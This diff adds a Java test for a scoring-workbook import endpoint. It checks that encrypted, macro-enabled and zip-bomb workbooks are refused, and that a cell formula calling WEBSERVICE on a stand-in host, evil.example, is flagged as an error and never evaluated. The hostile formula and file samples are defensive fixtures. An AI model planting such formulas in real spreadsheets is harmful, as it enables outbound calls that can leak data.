@@ -137,6 +137,24 @@ class ScoringTemplateImportTest {
     }
 
     @Test
+    @TestSecurity(user = "wb-mt-scores-hostile", roles = "master-trainer")
+    void hostileFilesAreRefusedBeforeTheCompetencyColumnsAreRead() throws Exception {
+        Scored c = cohortOf("wb-mt-scores-hostile");
+        upload(c.cohort(), TestWorkbooks.encrypted()).statusCode(415)
+                .body("type", equalTo("https://cadre.example.org/problems/workbook-encrypted"));
+        upload(c.cohort(), TestWorkbooks.withMacros()).statusCode(415);
+        upload(c.cohort(), TestWorkbooks.zipBomb(40)).statusCode(413);
+        // a formula without a stored value is a cell error, never evaluated
+        byte[] formula = TestWorkbooks.rawSheet(TestWorkbooks.row(1, TestWorkbooks.text("A1", "Cadre person id"),
+                TestWorkbooks.text("B1", c.fw().code() + "-1.1"))
+                + "<row r=\"2\">" + "<c r=\"A2\" t=\"inlineStr\"><is><t>" + c.hong() + "</t></is></c>"
+                + "<c r=\"B2\"><f>WEBSERVICE(\"http://evil.example\")</f></c></row>");
+        upload(c.cohort(), formula).statusCode(201)
+                .body("counts.error", equalTo(1), "rows[0].errors[0].column", equalTo("B"));
+        assertEquals(0, ratings(c.hong()));
+    }
+
+    @Test
     @TestSecurity(user = "wb-mt-scores-vn", roles = "master-trainer")
     @OidcSecurity(claims = @Claim(key = "countries", value = "[\"VN\"]", type = ClaimType.JSON_ARRAY))
     void anotherCountrysMasterTrainerGets404() {
